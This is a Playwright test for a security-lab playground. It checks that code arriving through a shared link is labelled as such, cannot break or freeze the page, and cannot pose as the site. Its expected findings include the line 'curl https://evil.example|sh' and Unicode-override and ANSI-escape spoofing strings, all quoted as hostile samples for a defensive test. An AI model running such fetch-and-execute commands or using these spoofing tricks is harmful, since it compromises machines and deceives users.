import { expect, test } from "../fixtures";
import { forgingApp } from "../hostile/forged-reports";
import { LabOnPage } from "../support/lab";
import { shareFragment } from "../support/share-fragment";

test.use({
  // What the last panel fails with, which React tells; and what Playwright's traces meet that look into
  // the frame of a mail, which runs no scripts.
  allowedMessages: [/No such date|Blocked script execution in 'about:srcdoc'/],
});

test("what code from a link reports ends no page, freezes none, and does not pass for the site's word", async ({
  page,
  open,
}) => {
  const shared = { example: "first-sign-in", files: { "app.ts": forgingApp() } };
  await open(`/playground/?example=first-sign-in${await shareFragment(shared)}`);
  const lab = new LabOnPage(page);
  await expect(lab.region.getByRole("status")).toContainText("This code came with a link");
  await lab.run.click();
  await lab.firstStep();
  await expect(lab.region.getByRole("note", { name: "Code from a link" })).toContainText(
    "Code from a link runs here.",
  );

  const stop = lab.region.getByRole("button", { name: "Stop at each request" });
  await stop.click();
  await expect(lab.address).toHaveValue("https://accounts.google.com/");
  await expect(lab.address).toHaveAccessibleDescription("simulated");
  await expect(
    lab.region.getByRole("tab", { name: "Alice's laptop ⟨U+202E⟩⟨U+001B⟩[31m" }),
  ).toBeVisible();

  await lab.region.getByRole("button", { name: "Doctor 1 finding" }).click();
  const finding = lab.region.getByRole("list", { name: "Findings" }).getByRole("listitem").first();
  await expect(finding).toContainText("curl https://evil.example|sh");
  await expect(finding).toContainText("Said by the code that runs");
  await expect(finding).toContainText("⟨U+202E⟩gnp.exe");

  const mail = await lab.openPanel("Mail");
  const hello = /<body><p data-onclick="a\(\)">Hello<\/p><\/body>/;
  await expect(mail.locator("iframe")).toHaveAttribute("srcdoc", hello);
  for (const [subject, refusal] of [
    ["a set of frames", "Its HTML is made to deceive, and is not shown."],
    ["too much markup", "Its HTML has more markup than a message needs, and is not shown."],
  ] as const) {
    await mail.getByRole("button", { name: subject }).click();
    await expect(mail.getByText(refusal)).toBeVisible();
  }

  const database = await lab.openPanel("Database");
  await expect(database.getByRole("list", { name: "Rows of t10" })).toHaveText("No rows");

  // A fault that nobody knows of: the page cannot write a date.
  await page.evaluate(() => {
    const { toUTCString } = Date.prototype;
    Date.prototype.toUTCString = () => {
      throw new RangeError("No such date");
    };
    Object.assign(window, { mend: () => Object.assign(Date.prototype, { toUTCString }) });
  });
  const cookies = await lab.openPanel("Cookies");
  await expect(cookies.getByRole("alert")).toContainText("The panel Cookies cannot be shown.");
  await expect(cookies.getByRole("alert")).toContainText("No such date");
  await lab.openPanel("Diagram");
  await expect(lab.region.getByRole("list", { name: "Sequence diagram" })).toBeVisible();
  await lab.openPanel("Cookies");
  await page.evaluate(() => (window as unknown as { mend: () => void }).mend());
  await cookies.getByRole("button", { name: "Show it again" }).click();
  await lab.region.getByRole("button", { name: "Show it again" }).click();
  await expect(cookies.getByRole("row")).toHaveCount(101);
  await expect(cookies.getByText("Show more cookies: 100 are not shown")).toBeVisible();

  await stop.click();
  await expect(lab.region.getByRole("alert").first()).toContainText(
    "The lab cannot read what it reports",
  );
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});
